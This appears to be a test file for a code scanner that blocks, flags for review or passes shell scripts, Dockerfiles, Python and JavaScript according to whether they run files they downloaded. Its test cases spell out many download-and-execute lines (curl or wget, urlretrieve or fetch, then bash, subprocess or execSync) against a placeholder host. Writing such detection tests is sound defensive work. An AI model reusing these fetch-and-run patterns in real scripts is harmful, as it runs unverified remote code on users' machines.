// What was fetched is found again by its folder: archives that are unpacked, folders that a script enters, paths below a
// folder that a call gave. A digest that is compared on the way makes it weigh less.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

const U = 'https://example.invalid/d';
const KNOWN = 'https://github.com/a/b/releases/download/v1';
const DIGEST = 'a1'.repeat(32);

describe('a shell script', () => {
  it.each([
    `cd /tmp && wget ${U}/x.sh && bash /tmp/x.sh`,
    `curl -so bin/x.sh ${U}\ncd bin\n./x.sh`,
    `cd /tmp\ncurl -so x.sh ${U}\ncd -\n/tmp/x.sh`,
    `pushd /tmp; curl -so x.sh ${U}; popd; sh /tmp/x.sh`,
    `cd /tmp; curl -s ${U} > x.sh; (cd /); ./x.sh`,
    `(cd bin; curl -so x.sh ${U})\nbin/x.sh`,
    `cd ~\ncurl -so x.sh ${U}\nsh ~/x.sh`,
    `cd "$(mktemp -d)"; curl -so a/x.sh ${U}; cd a; sh ./x.sh`,
    `d=$(mktemp -d)\ncurl -so "$d/x.sh" ${U}\nbash "$d/x.sh"`,
    `curl -so "$TARGET/bin/x.sh" ${U}\ncd "$TARGET"; bin/x.sh`,
    `curl -s ${U} > /tmp/a\nmv /tmp/a /tmp/b\nsh /tmp/b`,
    `f=$(mktemp); curl -so "$f" ${U}; cp "$f" /tmp/b; /tmp/b`,
    `curl -so x ${U}; sudo install -m 755 x /opt/; /opt/x`,
  ])('that runs what it fetched is stopped: %s', async (text) => {
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('block');
  });

  it.each([
    `curl -s ${U}/tool.tgz | tar xz\n./tool/install.sh`,
    `curl -s ${U}/tool-1.2.tar.gz | tar xz\ncd tool-1.2\n./configure`,
    `curl -s ${U}/tool.tgz | tar xz -C /opt\n/opt/tool/install.sh`,
    `curl -s ${U}/tool.tgz | tar -xzC /opt\n/opt/tool/install.sh`,
    `curl -s ${U}/tool.tgz | tar --directory=/opt -xz; bash /opt/x.sh`,
    `wget ${U}/tool.zip; unzip -q tool.zip -d t; sh t/install.sh`,
    `wget ${U}/tool.7z; 7z x -ot tool.7z; t/install`,
    `mkdir /tmp/x; cd /tmp/x; curl -s ${U} | tar xz --strip-components=1; ./install.sh`,
    `d=$(mktemp -d); curl -s ${U} | tar xz -C "$d"; "$d/install.sh"`,
    `curl -sO ${U}/x.sh\necho "${DIGEST}  x.sh" | sha256sum -c -\nbash x.sh`,
    `curl -so /usr/local/bin/tool ${U}; chmod +x /usr/local/bin/tool; tool --start`,
    `curl -so x ${U}\nsudo mv x /usr/local/bin/tool\ntool --start`,
    `curl -so /usr/local/bin/tool ${U}; echo "${DIGEST}  /usr/local/bin/tool" | sha256sum -c -; tool --start`,
    `curl -s ${KNOWN}/a.tgz | tar xz -C /opt; curl -s ${U} | tar xz -C /opt; /opt/b/install.sh`,
    `curl -so t.tgz ${U}/t.tgz; echo "${DIGEST}  t.tgz" | sha256sum -c -; tar xf t.tgz -C t; t/install.sh`,
    `cd /tmp && curl -sO ${U}/x.sh && sha256sum --check <<< "${DIGEST}  x.sh" && sh /tmp/x.sh`,
  ])('is held that unpacks or compares a digest before: %s', async (text) => {
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('review');
  });

  it.each([
    // the list comes from where the program does
    `curl -sO ${U}/x.sh; curl -s ${U}/sums | sha256sum -c -; bash x.sh`,
    `curl -sO ${U}/x.sh; curl -sO ${U}/sums; sha256sum -c sums; bash x.sh`,
    // of another file, and nothing that is compared
    `curl -sO ${U}/x.sh; echo "${DIGEST}  y.sh" | sha256sum -c -; bash x.sh`,
    `curl -sO ${U}/x.sh; sha256sum x.sh; bash x.sh`,
    // too late
    `curl -sO ${U}/x.sh; bash x.sh\necho "${DIGEST}  x.sh" | sha256sum -c -`,
  ])('is stopped where nothing vouches for it: %s', async (text) => {
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('block');
  });

  it.each([
    `curl -s ${U}/data.tgz | tar xz -C data\npython train.py --data data`,
    `curl -s ${U}/data.tgz | tar xz\npython train.py`,
    `cd data; curl -s ${U}/data.tgz | tar xz; cd ..; ./train.sh`,
    `curl -s ${U}/data.tgz | tar tz; ./data/train.sh`,
    `wget ${U}/model.bin; tar czf out.tgz model.bin; ./out/run.sh`,
    `(cd /tmp; curl -so x.sh ${U})\n./x.sh.example`,
    `curl -so bin/tool.json ${U}; tool --start`,
    `curl -Lso /usr/local/bin/kind https://github.com/a/kind/releases/download/v1/kind; kind create`,
    `curl -so /usr/local/bin/tool ${U}; ls tool`,
    `curl -so a.csv ${U}; mv a.csv b.csv; ./b.sh b.csv`,
    `git clone https://github.com/a/b; cd b; python -m pip install .`,
    `f() { cd /tmp; curl -so x.json ${U}; }; f; ./x.json.sh`,
  ])('that runs its own programs passes: %s', async (text) => {
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('pass');
  });
});

describe('a Dockerfile', () => {
  const FROM = `FROM python@sha256:${'0'.repeat(64)}\n`;

  it('is held that unpacks a program and starts it', async () => {
    const text = `${FROM}RUN curl -s ${U}/tool.tgz | tar xz -C /opt\nRUN /opt/tool/install.sh\n`;
    expect(await decision('Dockerfile', text)).toBe('review');
  });

  it('begins each command in a folder of its own', async () => {
    const one = `RUN cd /srv && curl -so x.json ${U}`;
    expect(await decision('Dockerfile', `${FROM}${one} && sh /srv/x.json\n`)).toBe('block');
    expect(await decision('Dockerfile', `${FROM}RUN cd /srv\nRUN curl -so x ${U}\nRUN sh /srv/x\n`)).toBe(
      'pass',
    );
  });
});

describe('a Python program', () => {
  const IMPORTS =
    'import os, shutil, subprocess, sys, tarfile, tempfile, zipfile\nfrom pathlib import Path\nfrom urllib.request import urlopen, urlretrieve\n';

  it.each([
    `d = tempfile.mkdtemp()\np = os.path.join(d, "x.sh")\nurlretrieve("${U}", p)\nsubprocess.run(["bash", p])`,
    `d = tempfile.mkdtemp()\nurlretrieve("${U}", os.path.join(d, "x"))\nsubprocess.run([os.path.join(d, "x")])`,
    `d = Path(tempfile.mkdtemp())\nurlretrieve("${U}", d / "x")\nsubprocess.run(["sh", str(d / "x")])`,
    `d = tempfile.mkdtemp()\nurlretrieve("${U}", f"{d}/x")\nsubprocess.run(["sh", f"{d}/x"])`,
    `urlretrieve("${U}", os.path.join(os.getenv("TEMP"), "x"))\nsubprocess.Popen(os.path.join(os.getenv("TEMP"), "x"))`,
    `p = os.path.join(tempfile.gettempdir(), "x")\nurlretrieve("${U}", p)\nos.system("sh " + p)`,
    `f = tempfile.NamedTemporaryFile(delete=False)\nf.write(urlopen("${U}").read())\nsubprocess.run([f.name])`,
    `p = Path.home() / ".cache" / "x"\np.write_bytes(urlopen("${U}").read())\nsubprocess.run([p])`,
    `urlretrieve("${U}", "a")\nos.rename("a", "b")\nsubprocess.run(["./b"])`,
    `d = tempfile.mkdtemp()\nurlretrieve("${U}", os.path.join(d, "helper.py"))\nsys.path.insert(0, d)\nimport helper`,
    `def fetch(url):\n    f, path = tempfile.mkstemp()\n    with os.fdopen(f, "wb") as out:\n        out.write(urlopen(url).read())\n    return path\nsubprocess.run([fetch("${U}")])`,
  ])('that starts what it fetched is stopped: %s', async (text) => {
    expect(await decision('a.py', `${IMPORTS}${text}\n`)).toBe('block');
  });

  it.each([
    `urlretrieve("${U}/t.tgz", "t.tgz")\nshutil.unpack_archive("t.tgz", "t")\nsubprocess.run(["t/install.sh"])`,
    `urlretrieve("${U}/t.tgz", "t.tgz")\nwith tarfile.open("t.tgz") as f:\n    f.extractall("t")\nos.system("t/install.sh")`,
    `urlretrieve("${U}/t.zip", "t.zip")\nzipfile.ZipFile("t.zip").extractall(path="t")\nsubprocess.run(["t/run"])`,
    `urlretrieve("${U}/t.tgz", "t.tgz")\nsubprocess.run(["tar", "xf", "t.tgz", "-C", "t"])\nsubprocess.run(["sh", "t/x.sh"])`,
  ])('is held that unpacks it before: %s', async (text) => {
    expect(await decision('a.py', `${IMPORTS}${text}\n`)).toBe('review');
  });

  it.each([
    `d = tempfile.mkdtemp()\nurlretrieve("${U}", os.path.join(d, "a.csv"))\nsubprocess.run(["sh", os.path.join(d, "x")])`,
    `urlretrieve("${U}", os.path.join(os.getenv("TEMP"), "x"))\nsubprocess.Popen(os.path.join(os.getenv("HOME"), "x"))`,
    `f = tempfile.NamedTemporaryFile()\nf.write(urlopen("${U}").read())\nsubprocess.run(["wc", "-l", f.name])`,
    `urlretrieve("${U}", "a")\nos.rename("a", "b")\nsubprocess.run(["./a.sh"])`,
    `urlretrieve("${U}/t.tgz", "t.tgz")\nshutil.unpack_archive("t.tgz", "data")\nsubprocess.run(["bin/train", "data/a.csv"])`,
  ])('that starts something else passes: %s', async (text) => {
    expect(await decision('a.py', `${IMPORTS}${text}\n`)).toBe('pass');
  });
});

describe('a JavaScript program', () => {
  const IMPORTS =
    'const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");\n';

  it.each([
    `const p = path.join(os.tmpdir(), "x");\n(async () => { fs.writeFileSync(p, await (await fetch("${U}")).text()); cp.execSync("node " + p); })();`,
    `(async () => { fs.writeFileSync("a", await (await fetch("${U}")).text()); fs.renameSync("a", "b.js"); cp.fork("b.js"); })();`,
  ])('that starts what it fetched is stopped: %s', async (text) => {
    expect(await decision('a.js', `${IMPORTS}${text}\n`)).toBe('block');
  });

  it('that starts something else passes', async () => {
    const text = `const p = path.join(os.tmpdir(), "x");\n(async () => { fs.writeFileSync(p, await (await fetch("${U}")).text()); cp.execSync("node run.js " + p); })();`;
    expect(await decision('a.js', `${IMPORTS}${text}\n`)).toBe('pass');
  });
});
